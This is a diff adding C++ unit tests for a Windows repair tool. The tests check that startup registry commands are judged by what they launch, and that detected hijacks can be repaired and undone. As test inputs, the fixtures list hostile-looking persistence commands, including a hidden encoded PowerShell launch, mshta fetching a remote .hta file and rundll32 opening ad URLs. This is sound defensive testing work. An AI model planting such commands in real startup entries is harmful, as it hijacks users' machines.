@@ -1,0 +1,132 @@
+#include <gtest/gtest.h>
+
+#include "repair/startup/StartupCommand.h"
+#include "repair/startup/StartupEntries.h"
+#include "tests/native/RepairFixture.h"
+#include "text/RegistryEncoding.h"
+
+namespace tovask::test {
+namespace {
+
+struct CommandCase {
+    std::string name;
+    std::wstring command;
+    bool hijack;
+
+    friend void PrintTo(const CommandCase& c, std::ostream* out) { *out << c.name; }
+};
+
+class StartupCommands : public testing::TestWithParam<CommandCase> {};
+
+TEST_P(StartupCommands, AreJudgedByWhatTheyStart) {
+    EXPECT_EQ(startupCommandHijack(GetParam().command).has_value(), GetParam().hijack);
+}
+
+// clang-format off
+INSTANTIATE_TEST_SUITE_P(
+    Commands, StartupCommands,
+    testing::Values(
+        CommandCase{"ChromeWithAddress", LR"("C:\Program Files\Google\Chrome\Application\chrome.exe" https://buscar.example)", true},
+        CommandCase{"EdgeLoadsExtension", LR"(C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe --load-extension=C:\Users\ana\AppData\Local\x)", true},
+        CommandCase{"ChromeAppWindow", LR"(chrome.exe --app=http://anuncios.example)", true},
+        CommandCase{"ChromeNoStartupWindow", LR"("C:\Program Files\Google\Chrome\Application\chrome.exe" --no-startup-window /prefetch:5)", false},
+        CommandCase{"PowerShellEncoded", LR"(powershell.exe -NoP -W Hidden -enc SQBFAFgA)", true},
+        CommandCase{"PwshEncodedShortest", LR"(pwsh -e SQBFAFgA)", true},
+        CommandCase{"PowerShellExecutionPolicyOnly", LR"(powershell.exe -ex bypass -file "C:\Program Files\Vendor\tarea.ps1")", false},
+        CommandCase{"PowerShellScriptInAppData", LR"(powershell.exe -file "%APPDATA%\x\carga.ps1")", true},
+        CommandCase{"MshtaAddress", LR"(mshta.exe http://carga.example/a.hta)", true},
+        CommandCase{"CmdStartsAddress", LR"(cmd /c start https://anuncios.example)", true},
+        CommandCase{"Rundll32Address", LR"(rundll32.exe url.dll,FileProtocolHandler http://anuncios.example)", true},
+        CommandCase{"WscriptScriptInUsers", LR"(wscript.exe "C:\Users\ana\AppData\Roaming\s.vbs")", true},
+        CommandCase{"ScriptFileInTemp", LR"("C:\Windows\Temp\a.bat")", true},
+        CommandCase{"Rundll32SystemDll", LR"(rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL)", false},
+        CommandCase{"OrdinaryProgram", LR"("C:\Program Files\Vendor\Updater.exe" /silent https://vendor.example)", false},
+        CommandCase{"Empty", L"", false}),
+    [](const testing::TestParamInfo<CommandCase>& info) { return info.param.name; });
+// clang-format on
+
+constexpr std::wstring_view kMachineRun =
+    L"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\";
+constexpr std::wstring_view kUserRunOnce =
+    L"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\";
+
+TEST(StartupEntries, CheckRepairCheckAndUndoPutTheValuesBack) {
+    RepairBench bench;
+    bench.platform.registry.twoViews = true;
+    bench.platform.registry.addKeysEveryWindowsHas();
+    ASSERT_FALSE(bench.platform.RegWriteRaw(kMachineRun, L"Actualizar",
+                                            stringValue(L"chrome.exe https://buscar.example"),
+                                            RegistryView::Bits32));
+    ASSERT_FALSE(bench.platform.RegWriteRaw(kMachineRun, L"Sonido",
+                                            stringValue(L"C:\\Program Files\\Audio\\audio.exe"),
+                                            RegistryView::Bits64));
+    bench.platform.RegWrite(std::wstring(kUserRunOnce) + L"x", L"powershell -enc SQBFAFgA",
+                            RegistryType::String);
+    const auto before = bench.platform.registry.snapshot();
+    bench.load();
+    bench.view.repairFindings = true;
+    ASSERT_EQ(bench.check(), RunOutcome::RepairNeeded);
+    bench.press();
+    EXPECT_TRUE(bench.errorLines().empty());
+    EXPECT_FALSE(
+        bench.platform.RegReadValue(std::wstring(kMachineRun) + L"Actualizar", RegistryView::Bits32)
+            .ok());
+    EXPECT_TRUE(
+        bench.platform.RegReadValue(std::wstring(kMachineRun) + L"Sonido", RegistryView::Bits64)
+            .ok());
+    EXPECT_EQ(bench.check(), RunOutcome::Done);
+    bench.undo();
+    EXPECT_EQ(bench.platform.registry.snapshot(), before);
+    EXPECT_TRUE(
+        bench.platform.RegReadValue(std::wstring(kMachineRun) + L"Actualizar", RegistryView::Bits32)
+            .ok());
+}
+
+TEST(StartupEntries, AreReportOnlyOnAManagedMachine) {
+    fake::FakePlatform platform;
+    platform.RegWrite(std::wstring(kMachineRun) + L"x", L"mshta http://a.example",
+                      RegistryType::String);
+    FailureLog failures(platform);
+    const auto found = findStartupEntries(platform, {}, true, failures);
+    ASSERT_EQ(found.size(), 1u);
+    EXPECT_FALSE(found[0].finding.repairable);
+}
+
+}  // namespace
+}  // namespace tovask::test
+
+namespace tovask::test {
+namespace {
+
+struct StartupReachCase {
+    std::string name;
+    RegistryFileSection section;
+    bool within;
+
+    friend void PrintTo(const StartupReachCase& c, std::ostream* out) { *out << c.name; }
+};
+
+class StartupBackupReach : public testing::TestWithParam<StartupReachCase> {};
+
+TEST_P(StartupBackupReach, CoversOnlyValuesPutBackInRunKeys) {
+    EXPECT_EQ(withinStartupReach(GetParam().section, true), GetParam().within);
+}
+
+const RegistryFileEntry kRunEntry{L"x", stringValue(L"chrome.exe https://a.example")};
+constexpr std::wstring_view kRunInFile = L"\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
+
+// clang-format off
+INSTANTIATE_TEST_SUITE_P(
+    Sections, StartupBackupReach,
+    testing::Values(
+        StartupReachCase{"Machine32", {L"HKEY_LOCAL_MACHINE\\Software\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce", false, {kRunEntry}}, true},
+        StartupReachCase{"UserAccount", {L"HKEY_USERS\\S-1-5-21-1-2-3-1001" + std::wstring(kRunInFile), false, {kRunEntry}}, true},
+        StartupReachCase{"SystemAccount", {L"HKEY_USERS\\S-1-5-18" + std::wstring(kRunInFile), false, {kRunEntry}}, false},
+        StartupReachCase{"ADeletion", {L"HKEY_LOCAL_MACHINE" + std::wstring(kRunInFile), false, {{L"x", std::nullopt}}}, false},
+        StartupReachCase{"BelowRun", {L"HKEY_LOCAL_MACHINE" + std::wstring(kRunInFile) + L"\\x", false, {kRunEntry}}, false},
+        StartupReachCase{"Winlogon", {L"HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", false, {kRunEntry}}, false}),
+    [](const testing::TestParamInfo<StartupReachCase>& info) { return info.param.name; });
+// clang-format on
+
+}  // namespace
+}  // namespace tovask::test
